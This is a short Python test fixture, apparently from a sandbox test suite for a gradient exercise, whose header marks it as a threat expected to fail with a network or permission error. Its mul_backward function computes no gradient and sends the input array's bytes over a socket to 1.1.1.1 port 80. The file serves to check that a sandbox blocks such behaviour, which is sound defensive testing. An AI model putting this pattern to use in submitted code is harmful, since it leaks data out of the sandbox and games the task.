# root: yes
# threat: tries to send the inputs over the network
# exercise: mul
# status: failed
# message: (Network is unreachable|Permission denied)
import socket


def mul_backward(dout, x, y):
    socket.create_connection(("1.1.1.1", 80), timeout=1).sendall(x.tobytes())
